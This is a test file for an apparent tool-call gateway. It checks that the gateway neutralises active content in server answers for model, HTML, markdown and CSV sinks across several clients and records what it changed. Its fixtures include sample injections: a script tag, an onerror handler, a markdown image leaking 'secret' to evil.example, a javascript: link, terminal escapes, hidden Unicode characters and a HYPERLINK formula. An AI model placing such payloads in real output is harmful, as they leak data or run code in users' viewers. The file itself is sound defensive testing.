// Answers of real servers that carry what is active where they are read: the server hands it on as it
// found it, the gateway makes it harmless for the sink and says in the log what it changed.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { clients as c } from '../lib/clients.js';
import { behind, childOf } from '../lib/config.js';
import { assertAnswered, words } from '../lib/got.js';
import { servers } from '../lib/servers.js';

const CLIENTS = [
  c.sdkModern,
  c.sdkLegacy,
  c.inspectorAuto,
  c.mcpRemoteModern,
  c.javaSdk,
  c.langChain4j,
];
const HONEST = 'The minutes of the meeting';
/** What would act, by the sink in which it would, and the sign that it still does. */
const ACTIVE = {
  model: {
    'a terminal escape': ['\u001b[2J\u001b]8;;https://evil.example\u0007', /\u001b/],
    'a text direction override': ['\u202egnp.exe', /\u202e/],
    'invisible characters': ['pay\u200b\u2060load', /\u200b/],
    'hidden tag characters': ['\u{e0041}\u{e0042}\u{e0043}', /\u{e0041}/u],
  },
  html: {
    'a script': ['<script>steal()</script>', /<script/],
    'an event handler': ['<img src=x onerror=steal()>', /<img/],
  },
  markdown: {
    'an image that leaks': ['![x](https://evil.example/?q=secret)', /(?<!\\)!\[/],
    'a link that runs': ['[more](javascript:steal())', /(?<!\\)\]\(javascript:/],
  },
  csv: { 'a formula': ['=HYPERLINK("https://evil.example")', /(?<=")=HYPERLINK/] },
};

export const answers = {
  name: 'active answers',
  async play(stage) {
    for (const [sink, attacks] of Object.entries(ACTIVE)) await sanitized(stage, sink, attacks);
    await echoed(stage);
  },
};

async function sanitized(stage, sink, attacks) {
  const world = stage.world(sink);
  const steps = Object.entries(attacks).map(([, [active]], index) => {
    const path = join(world, `files/${index}.txt`);
    writeFileSync(path, sink === 'csv' ? `${active},${HONEST}` : `${HONEST}\n${active}\n`);
    return { call: 'read_text_file', with: { path } };
  });
  const direct = await stage.visit(c.sdkLegacy, childOf(servers.filesystem, world), steps);
  const gateway = await stage.operate(settings(servers.filesystem, world, sink));
  const { key } = await gateway.createKey('ann', []);
  for (const client of CLIENTS) {
    await stage.check(`${client.name} gets nothing that acts in the sink ${sink}`, async () => {
      const through = await stage.visit(client, gateway.target({ key }), steps);
      Object.entries(attacks).forEach(([what, [, sign]], index) => {
        assert.match(spoken(direct[index]), sign, `the server itself hands out ${what}`);
        assertAnswered(through[index], HONEST);
        assert.doesNotMatch(spoken(through[index]), sign, what);
      });
    });
  }
  await stage.check(`what was changed for the sink ${sink} is on record`, async () => {
    const all = await gateway.audit('--reason', 'response-sanitized');
    // The quotes of descriptions are encoded for pages, too, so lists are on record as well.
    const records = all.filter(({ fields }) => fields.method === 'tools/call');
    assert.equal(records.length, steps.length * CLIENTS.length, words(records.at(-1) ?? []));
  });
}

const settings = (server, world, sink) => ({
  servers: { server: behind(server, world) },
  transparent: true,
  policy: { allow: [{ name: 'all', tools: ['*'] }] },
  pinning: { 'first-seen': 'approve' },
  output: { 'default-sink': sink },
});

/** All text of a result, as it is and not as JSON writes it. */
function spoken(result) {
  if (typeof result === 'string') return `"${result}"`;
  if (result === null || typeof result !== 'object') return '';
  return Object.values(result).map(spoken).join('\n');
}

/** What a client sends comes back to it harmless too. */
async function echoed(stage) {
  const world = stage.world('echo');
  const gateway = await stage.operate(settings(servers.everythingStdio, world, 'html'));
  const { key } = await gateway.createKey('ann', []);
  const echo = { call: 'echo', with: { message: `${HONEST} <script>steal()</script>` } };
  for (const client of CLIENTS) {
    await stage.check(`${client.name} is echoed nothing that acts`, async () => {
      const [answer] = await stage.visit(client, gateway.target({ key }), [echo]);
      assertAnswered(answer, HONEST);
      assert.ok(!spoken(answer).includes('<script'), words(answer));
    });
  }
}
